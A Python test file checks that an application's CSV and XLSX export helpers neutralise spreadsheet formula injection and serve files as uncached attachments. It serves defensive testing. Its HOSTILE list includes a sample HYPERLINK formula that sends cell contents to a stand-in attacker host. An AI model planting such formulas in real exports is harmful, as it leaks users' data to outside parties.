"""common.exports: no cell of a CSV or XLSX export can run as a spreadsheet formula."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook

from common.exports import csv_bytes, csv_response, xlsx_bytes

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+380671234567", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


def test_csv_quotes_every_formula_like_text_and_leaves_numbers_alone():
    content = csv_bytes(["Name", "Amount"], [[text, Decimal("-5.00")] for text in HOSTILE] + [["Олена", 7]])

    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))

    assert rows == [["Name", "Amount"], *[[f"'{text}", "-5.00"] for text in HOSTILE], ["Олена", "7"]]


def test_xlsx_keeps_formula_like_text_as_text_with_a_quote_prefix():
    content = xlsx_bytes(["Name", "Amount"], [[text, Decimal("-5.00")] for text in HOSTILE], sheet_title="Ranking")

    sheet = load_workbook(io.BytesIO(content)).active
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    amounts = [row[1].value for row in sheet.iter_rows(min_row=2)]

    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in names] == [(text, "s", True) for text in HOSTILE]
    assert amounts == [-5] * len(HOSTILE)


def test_an_export_is_an_attachment_that_no_shared_cache_keeps():
    response = csv_response("ranking.csv", ["Name"], [["Олена"]])

    assert (response["Content-Disposition"], response["Cache-Control"]) == (
        'attachment; filename="ranking.csv"',
        "private, no-store",
    )


def test_every_export_builds_its_file_through_common_exports():
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|from openpyxl import Workbook|Workbook\(\)")
    offenders = [
        str(path.relative_to(ROOT))
        for app in [config.parent for config in ROOT.glob("*/apps.py")] + [ROOT / "onepluone"]
        for path in app.rglob("*.py")
        if path.name != "exports.py" and "migrations" not in path.parts and writers.search(path.read_text())
    ]

    assert offenders == []
